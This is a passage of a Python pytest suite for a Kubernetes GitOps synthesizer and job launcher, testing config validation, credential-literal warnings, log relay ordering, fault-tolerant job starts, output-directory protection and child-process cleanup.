        "sidecar-port-duplicate-default-protocol",
        "a.yaml",
        doc(sidecar(ports=[{"containerPort": 80}, {"containerPort": 80, "protocol": "TCP"}])),
        "spec.sidecars[0].ports[1]",
    ),
    (
        "topology-spread-duplicate",
        "a.yaml",
        doc(
            {
                "availability": {
                    "topologySpreadConstraints": [
                        {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
                        {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
                    ]
                }
            }
        ),
        "spec.availability.topologySpreadConstraints[1]",
    ),
    (
        "agent-template-env-duplicate",
        "a.yaml",
        doc(agents(env=[{"name": "A", "value": "1"}, {"name": "A", "value": "2"}])),
        "spec.agents.templates.ci.env[1].name",
    ),
    (
        "agent-template-pull-secrets-duplicate",
        "a.yaml",
        doc(agents(imagePullSecrets=["r", "r"])),
        "spec.agents.templates.ci.imagePullSecrets[1]",
    ),
]
CASES = CASES + ROUND_3


# Inputs the hardening must not refuse (accepted), or accepts with a warning naming the field
# (warned): (case id, file name, content, text the output must contain; "" for none).
ACCEPTED: list[Case] = [
    (
        "url-user-name-alone",
        "a.yaml",
        doc(external("postgresql://paperclip@db.example.com:5432/paperclip")),
        "",
    ),
    (
        "url-harmless-parameters",
        "a.yaml",
        doc(public("https://pc.example.com/?keyboard=1&tab=token")),
        "",
    ),
    (
        "image-registry-port-tag-digest",
        "a.yaml",
        doc(sidecar(image=f"registry.example.com:5000/team/tool:1.2@{DIGEST}")),
        "",
    ),
    (
        "sidecar-port-same-number-other-protocol",
        "a.yaml",
        doc(sidecar(ports=[{"containerPort": 53}, {"containerPort": 53, "protocol": "UDP"}])),
        "",
    ),
    (
        "env-overrides-generated-literal",
        "a.yaml",
        doc({"env": [{"name": "PAPERCLIP_LOG_LEVEL", "value": "debug"}]}),
        "",
    ),
    # Text in Kubernetes YAML (kubectl sends the string), not YAML 1.1's base-60 number 750.
    ("env-value-time-of-day", "a.yaml", HEAD + "\n  env: [{name: AT, value: 12:30}]\n", ""),
]
WARNED: list[Case] = [
    (
        "sidecar-env-secret-literal",
        "a.yaml",
        doc(sidecar(env=[{"name": "API_TOKEN", "value": "abc"}])),
        "spec.sidecars[0].env[0].value: API_TOKEN looks like a credential",
    ),
    (
        "init-env-secret-literal",
        "a.yaml",
        doc(init(env=[{"name": "DB_PASSWORD", "value": "abc"}])),
        "spec.initContainers[0].env[0].value: DB_PASSWORD looks like a credential",
    ),
    (
        "agent-env-secret-literal",
        "a.yaml",
        doc(agents(env=[{"name": "GITHUB_TOKEN", "value": "abc"}])),
        "spec.agents.templates.ci.env[0].value: GITHUB_TOKEN looks like a credential",
    ),
    (
        "otel-headers-literal",
        "a.yaml",
        doc({"env": [{"name": "OTEL_EXPORTER_OTLP_HEADERS", "value": "Authorization=Bearer x"}]}),
        "spec.env[0].value: OTEL_EXPORTER_OTLP_HEADERS holds the header Authorization",
    ),
    (
        "otel-traces-headers-api-key",
        "a.yaml",
        doc(sidecar(env=[{"name": "OTEL_EXPORTER_OTLP_TRACES_HEADERS", "value": "x-api-key=1"}])),
        "holds the header x-api-key",
    ),
]


def _ids(cases: list[Case]) -> list[str]:
    return [c[0] for c in cases]


@pytest.mark.timeout(120)
@pytest.mark.parametrize(("name", "content", "expected"), [c[1:] for c in CASES], ids=_ids(CASES))
def test_hostile_input_exits_2_with_path_and_leaves_output_untouched(
    tmp_path: Path,
    dist_copy: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    content: str | bytes,
    expected: str,
) -> None:
    monkeypatch.setenv(APP_TIMEOUT_ENV, "2")
    source = tmp_path / "in"
    source.mkdir()
    app_file = source / name
    if isinstance(content, bytes):
        app_file.write_bytes(content)
    else:
        app_file.write_text(content, encoding="utf-8")
    before = tree_bytes(dist_copy)
    result = CliRunner().invoke(main, ["synth", str(app_file), "--out", str(dist_copy)])
    assert result.exit_code == 2, result.output
    assert expected in result.output, result.output
    assert name in result.output or str(app_file) in result.output, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert tree_bytes(dist_copy) == before


@pytest.mark.timeout(120)
@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [c[1:] for c in ACCEPTED + WARNED],
    ids=_ids(ACCEPTED + WARNED),
)
def test_accepted_input_synthesizes_with_the_warnings_it_deserves(
    tmp_path: Path, name: str, content: str | bytes, expected: str
) -> None:
    app_file = tmp_path / name
    app_file.write_text(str(content), encoding="utf-8")
    result = CliRunner().invoke(main, ["synth", str(app_file), "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert expected in result.output, result.output
    assert "Traceback" not in result.output
    if expected:
        assert "warning:" in result.output


def test_the_corpus_is_large_and_ids_are_unique() -> None:
    assert len(CASES) >= 100
    every = _ids(CASES + ACCEPTED + WARNED)
    assert len(set(every)) == len(every)


@pytest.mark.parametrize("argument", [".", "..", "./", "../", "apps/.", "a/../..", "/"])
def test_dot_app_arguments_are_refused_cleanly(dist_copy: Path, argument: str) -> None:
    before = tree_bytes(dist_copy)
    result = CliRunner().invoke(main, ["synth", argument, "--out", str(dist_copy)])
    assert result.exit_code == 2, result.output
    assert f"no app named {argument!r}" in result.output or f"no app file at {argument}" in (
        result.output
    )
    assert "Traceback" not in result.output
    assert tree_bytes(dist_copy) == before


# --- the launcher: hostile configuration, API faults and logs (the in-memory Kube) -----------


@pytest.mark.parametrize("content", ["", "\n", " \n\t\n"], ids=["empty", "newline", "blank"])
def test_an_empty_launcher_token_file_is_refused(tmp_path: Path, content: str) -> None:
    """An empty token would accept ``Authorization: Bearer`` with no credential at all."""
    from launcher.cli import main as launcher_main
    from launcher.server import make_app
    from tests.unit.test_launcher_support import CONFIG, CONFIG_DOC

    token_file = tmp_path / "token"
    token_file.write_text(content)
    config = tmp_path / "templates.json"
    config.write_text(json.dumps(CONFIG_DOC))
    with pytest.raises(SystemExit) as stopped:
        launcher_main(["serve", "--config", str(config), "--token-file", str(token_file)])
    assert "token" in str(stopped.value.code) and str(token_file) in str(stopped.value.code)
    with pytest.raises(ValueError, match="token"):
        make_app(Launcher(FakeKube(), CONFIG), content)


BACKWARDS = [
    ("one", "2026-01-01T00:00:05.000000000Z"),
    ("two", "2026-01-01T00:00:05.500000000Z"),
    ("three: the clock stepped back", "2026-01-01T00:00:05.200000000Z"),
    ("four: two seconds back", "2026-01-01T00:00:03.000000000Z"),
    ("five: same stamp as two", "2026-01-01T00:00:05.500000000Z"),
    ("six", "2026-01-01T00:00:06.000000000Z"),
]


def test_log_lines_whose_timestamps_go_back_are_relayed_once_in_order() -> None:
    """A node clock stepped back must not make the relay drop lines (it used to skip every
    line stamped before the last one), neither in one stream nor when a client resumes from
    any cursor, nor after a broken stream."""
    from launcher.jobs import RunRequest
    from launcher.relay import Cursor
    from tests.unit.test_launcher_runs import FAST, collect, pod_of
    from tests.unit.test_launcher_support import CONFIG, NS

    texts = [text for text, _ in BACKWARDS]

    async def scenario() -> None:
        kube = FakeKube()
        lp = Launcher(kube, CONFIG, FAST)
        run = RunRequest(agent_id="a", run_id="r", company_id="c", template="plain")
        pod = pod_of(kube, (await lp.start(run)).job)
        for text, stamp in BACKWARDS:
            kube.append_log(NS, pod, text, stamp=stamp)
        kube.end_pod(NS, pod, 0)
        records = [r for r in await collect(lp, "r") if r["type"] == "line"]
        assert [r["text"] for r in records] == texts
        cursors = [Cursor.decode(r["cursor"]) for r in records]
        assert cursors == sorted(set(cursors)), "cursors must strictly increase"
        for index, record in enumerate(records):  # a client resuming from any line
            again = await collect(lp, "r", record["cursor"])
            rest = [r["text"] for r in again if r["type"] == "line"]
            assert rest == texts[index + 1 :], record["cursor"]

    asyncio.run(asyncio.wait_for(scenario(), 20))


def test_a_stream_broken_after_a_backward_step_resumes_without_loss_or_repeat() -> None:
    from launcher.jobs import RunRequest
    from tests.unit.test_launcher_runs import FAST, collect, pod_of, soon
    from tests.unit.test_launcher_support import CONFIG, NS

    async def scenario() -> None:
        kube = FakeKube()
        lp = Launcher(kube, CONFIG, FAST)
        run = RunRequest(agent_id="a", run_id="r", company_id="c", template="plain")
        pod = pod_of(kube, (await lp.start(run)).job)
        task = asyncio.ensure_future(collect(lp, "r"))
        for text, stamp in BACKWARDS[:4]:
            kube.append_log(NS, pod, text, stamp=stamp)
        await soon("the stream to open", lambda: kube.open_streams > 0)
        await asyncio.sleep(0.05)
        kube.cut_streams()
        for text, stamp in BACKWARDS[4:]:
            kube.append_log(NS, pod, text, stamp=stamp)
        await asyncio.sleep(0.05)
        kube.end_pod(NS, pod, 0)
        lines = [r["text"] for r in await task if r["type"] == "line"]
        assert lines == [text for text, _ in BACKWARDS]

    asyncio.run(asyncio.wait_for(scenario(), 20))


def _one_run_per_job_with_its_secret(kube: FakeKube) -> list[str]:
    """The run ids of the Jobs in the fake; each Job's pod has the run Secret it mounts,
    owned by that very Job."""
    runs = []
    for job in kube.of_kind("jobs"):
        volumes = job["spec"]["template"]["spec"]["volumes"]
        secret = next(v["secret"]["secretName"] for v in volumes if v["name"] == "run")
        found = [s for s in kube.of_kind("secrets") if s["metadata"]["name"] == secret]
        assert found, f"Job {job['metadata']['name']} has no run Secret {secret}"
        [owner] = found[0]["metadata"]["ownerReferences"]
        assert owner["uid"] == job["metadata"]["uid"]
        runs.append(job["metadata"]["annotations"]["paperclip.io/run-id"])
    return runs


LaunchFault = tuple[str, list[tuple[str, str, str]], str]
"""(case id, faults [(kind, method, path part)], what must hold afterwards)."""

LAUNCH_FAULTS: list[LaunchFault] = [
    # the run Secret's create is committed, its answer lost: the Job must go before the Lease
    ("secret-reply-lost", [("lost", "POST", "/secrets")], "another-run-starts"),
    # the run Secret cannot be created: cleaned up, the agent is free again
    ("secret-refused", [("fail", "POST", "/secrets")], "another-run-starts"),
    # ... and the cleanup fails too: the Lease is kept, so no second run; a retry completes
    (
        "secret-refused-no-cleanup",
        [("fail", "POST", "/secrets"), ("fail", "DELETE", "/jobs/")],
        "busy-then-retry",
    ),
    # the Job's create is committed, its answer lost: a retry of the run id starts it once
    ("job-reply-lost", [("lost", "POST", "/jobs")], "retry-starts"),
    # ... and nothing can be cleaned up: the retry adopts the Job and gives it its Secret
    (
        "job-reply-lost-no-cleanup",
        [("lost", "POST", "/jobs"), ("fail", "DELETE", "/jobs/"), ("fail", "PUT", "/leases/")],
        "busy-then-retry",
    ),
]


@pytest.mark.parametrize(
    ("faults", "after"), [c[1:] for c in LAUNCH_FAULTS], ids=[c[0] for c in LAUNCH_FAULTS]
)
def test_an_ambiguous_start_failure_leaks_no_job_and_never_allows_two_runs(
    faults: list[tuple[str, str, str]], after: str
) -> None:
    from launcher.guard import AgentBusy
    from launcher.jobs import RunRequest
    from launcher.kube import ApiError
    from tests.unit.test_launcher_runs import FAST
    from tests.unit.test_launcher_support import CONFIG

    def run(run_id: str) -> RunRequest:
        return RunRequest(agent_id="a", run_id=run_id, company_id="c", template="plain")

    async def scenario() -> None:
        kube = FakeKube()
        lp = Launcher(kube, CONFIG, FAST)
        for kind, method, part in faults:
            if kind == "lost":
                kube.lose_reply(method, part)
            else:
                kube.fail(method, part, 500, times=1)
        with pytest.raises(ApiError):
            await lp.start(run("r1"))
        if after == "another-run-starts":
            assert _one_run_per_job_with_its_secret(kube) == []
            assert not (await lp.start(run("r2"))).reattached
            assert _one_run_per_job_with_its_secret(kube) == ["r2"]
        elif after == "retry-starts":
            await lp.start(run("r1"))
            assert _one_run_per_job_with_its_secret(kube) == ["r1"]
        else:
            with pytest.raises(AgentBusy):
                await lp.start(run("r2"))
            assert (await lp.start(run("r1"))).reattached
            assert _one_run_per_job_with_its_secret(kube) == ["r1"]
            with pytest.raises(AgentBusy):
                await lp.start(run("r2"))

    asyncio.run(asyncio.wait_for(scenario(), 20))


# --- the output directory: synth never replaces what it did not write ------------------------


def _user_source_tree(root: Path) -> None:
    (root / "src").mkdir(parents=True)
    (root / "src" / "main.c").write_text("int main(void) { return 0; }\n")


def _plain_file(root: Path) -> None:
    root.mkdir(parents=True)
    (root / "src").write_text("notes\n")


def _symlink_to_user_tree(root: Path) -> None:
    _user_source_tree(root.parent / "elsewhere")
    root.mkdir(parents=True)
    (root / "src").symlink_to(root.parent / "elsewhere" / "src", target_is_directory=True)


def _foreign_kustomization(root: Path) -> None:
    (root / "src" / "kustomize").mkdir(parents=True)
    (root / "src" / "kustomize" / "kustomization.yaml").write_text("resources: [mine.yaml]\n")


OUTPUT_CASES = [
    ("out-user-directory", _user_source_tree),
    ("out-plain-file", _plain_file),
    ("out-symlink", _symlink_to_user_tree),
    ("out-foreign-kustomization", _foreign_kustomization),
]


@pytest.mark.parametrize("prepare", [c[1] for c in OUTPUT_CASES], ids=[c[0] for c in OUTPUT_CASES])
@pytest.mark.parametrize("only", [None, "helm"])
def test_synth_refuses_to_replace_an_app_directory_it_did_not_write(
    tmp_path: Path, prepare: Any, only: str | None
) -> None:
    project = tmp_path / "proj"
    prepare(project)
    app = tmp_path / "src.yaml"
    app.write_text(GOOD)
    before = tree_bytes(tmp_path)
    arguments = ["synth", str(app), "--out", str(project), *(["--only", only] if only else [])]
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code == 2, result.output
    assert f"{project / 'src'}" in result.output and "not written by paperclip-gitops" in (
        result.output
    )
    assert "Traceback" not in result.output
    assert tree_bytes(tmp_path) == before
    assert not [p for p in project.iterdir() if p.name.startswith(".synth-")]


def test_synth_fills_an_empty_app_directory_and_replaces_its_own(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    (project / "src").mkdir(parents=True)
    app = tmp_path / "src.yaml"
    app.write_text(GOOD)
    for _ in range(2):  # an empty directory, then the generated one
        result = CliRunner().invoke(main, ["synth", str(app), "--out", str(project)])
        assert result.exit_code == 0, result.output
        assert (project / "src" / "kustomize" / "kustomization.yaml").is_file()


COLLIDING = doc(metadata={"name": "a", "namespace": "team"}, spec={"database": {"mode": "managed"}})
COLLIDING += "---\n" + doc(metadata={"name": "a-db", "namespace": "team"})


@pytest.mark.parametrize("only", [None, "helm", "kustomize", "agents", "helm,agents"])
def test_colliding_objects_are_refused_whatever_outputs_are_written(
    tmp_path: Path, dist_copy: Path, only: str | None
) -> None:
    """Instance a's managed database is the StatefulSet a-db, whose claim a-db-data is also
    instance a-db's data claim: one object would silently overwrite the other in the chart."""
    app = tmp_path / "clash.yaml"
    app.write_text(COLLIDING)
    before = tree_bytes(dist_copy)
    arguments = ["synth", str(app), "--out", str(dist_copy), *(["--only", only] if only else [])]
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code == 2, result.output
    assert "PersistentVolumeClaim a-db-data" in result.output, result.output
    assert "instances a and a-db" in result.output, result.output
    assert tree_bytes(dist_copy) == before


# --- a corrupt previous output, the working directory, an interrupt after the write --------


def test_a_corrupt_previous_output_is_replaced_and_reported_without_a_traceback(
    dist_copy: Path,
) -> None:
    kustomization = dist_copy / "quickstart" / "kustomize" / "kustomization.yaml"
    kustomization.write_bytes(b"\xff\xfe not UTF-8 \x80\n")
    arguments = ["--dist", str(dist_copy), "--apps-dir", str(REPO / "apps")]
    checked = CliRunner().invoke(main, ["check", *arguments])
    assert checked.exit_code == 1, checked.output
    assert "quickstart/kustomize/kustomization.yaml (committed)" in checked.output
    assert "Traceback" not in checked.output
    assert checked.exception is None or isinstance(checked.exception, SystemExit)
    synth = ["synth", "quickstart", "--out", str(dist_copy), "--apps-dir", str(REPO / "apps")]
    result = CliRunner().invoke(main, synth)
    assert result.exit_code == 0, result.output
    assert kustomization.read_text(encoding="utf-8").startswith("# Generated by paperclip-gitops")


def test_check_does_not_depend_on_the_working_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    arguments = ["check", "--dist", str(REPO / "dist"), "--apps-dir", str(REPO / "apps")]
    monkeypatch.chdir(REPO)
    here = CliRunner().invoke(main, arguments)
    monkeypatch.chdir("/")
    elsewhere = CliRunner().invoke(main, arguments)
    assert (elsewhere.exit_code, elsewhere.stdout) == (here.exit_code, here.stdout)
    # no source is named relative to the working directory (/ here: "<repo without />/apps")
    assert REPO.as_posix().lstrip("/") not in elsewhere.output.replace(REPO.as_posix(), "")


def test_an_interrupt_after_the_write_prints_no_traceback(tmp_path: Path) -> None:
    """Ctrl-C once the output is written (while the process exits) changes nothing: the
    output is complete, the exit is clean, and no traceback is printed."""
    import signal
    import subprocess

    command = [str(REPO / ".venv/bin/paperclip-gitops"), "synth", "quickstart"]
    for attempt in range(4):
        out = tmp_path / f"out{attempt}"
        process = subprocess.Popen(
            [*command, "--out", str(out), "--apps-dir", str(REPO / "apps")],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, **({INTERRUPT_AT_ENV: "exit"} if attempt == 0 else {})},
            start_new_session=True,
        )
        assert process.stdout is not None
        line = process.stdout.readline()
        if attempt % 2:
            os.killpg(process.pid, signal.SIGINT)  # as a terminal's Ctrl-C: Node gets it too
        else:
            process.send_signal(signal.SIGINT)
        rest, errors = process.communicate(timeout=60)
        assert "synthesized 1 app(s)" in line, line + rest + errors
        assert "Traceback" not in errors and "Aborted" not in errors, errors
        assert process.returncode == 0, errors
        assert (out / "quickstart" / "kustomize" / "kustomization.yaml").is_file()


# --- a Python app's child process dies with the synth that started it -------------------------


def _children(pid: int) -> list[int]:
    found: list[int] = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        with __import__("contextlib").suppress(OSError):
            found += [int(p) for p in (task / "children").read_text().split()]
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.parametrize("signum", ["SIGTERM", "SIGKILL"])
def test_a_python_apps_child_dies_with_a_killed_synth(tmp_path: Path, signum: str) -> None:
    import signal
    import subprocess
    import time

    started = tmp_path / "looping"
    app = tmp_path / "spin.py"
    app.write_text(
        GOOD_PY + f"def instances():\n    open({str(started)!r}, 'w').close()\n"
        "    while True:\n        pass\n"
    )
    synth = subprocess.Popen(
        [str(REPO / ".venv/bin/paperclip-gitops"), "synth", str(app), "--out", str(tmp_path / "o")],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, APP_TIMEOUT_ENV: "120"},
    )
    child = 0
    try:
        deadline = time.monotonic() + 60
        while not started.exists():
            assert time.monotonic() < deadline and synth.poll() is None, "the app never ran"
            time.sleep(0.05)
        own = Path(f"/proc/{synth.pid}/cmdline").read_bytes()
        [child] = [
            c for c in _children(synth.pid) if Path(f"/proc/{c}/cmdline").read_bytes() == own
        ]
        synth.send_signal(getattr(signal, signum))
        synth.wait(30)
        deadline = time.monotonic() + 10
        while _alive(child) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not _alive(child), f"the app's process {child} outlived the synth ({signum})"
    finally:
        if child and _alive(child):
            os.kill(child, signal.SIGKILL)  # the leftover of the failure this test reports
        if synth.poll() is None:
            synth.kill()
            synth.wait()
